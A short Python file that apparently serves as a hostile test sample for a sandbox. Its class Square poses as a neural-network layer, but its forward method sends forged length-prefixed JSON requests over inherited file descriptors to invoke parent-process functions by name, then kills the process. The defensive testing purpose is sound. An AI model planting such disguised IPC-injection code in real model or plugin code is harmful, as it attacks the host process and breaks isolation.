"""Names a function of the parent by text.

row: lying headers
stopped by: which was not offered
"""

import contextlib
import json
import os
import socket
import struct


class Square:
    def forward(self, x):
        text = json.dumps({"asks": "__class__", "value": None, "arrays": []}).encode()
        for number in range(3, 64):
            with contextlib.suppress(OSError):
                connection = socket.socket(fileno=os.dup(number))
                connection.sendall(struct.pack("!I", len(text)) + text)
        os._exit(0)

    def backward(self, dy):
        return dy
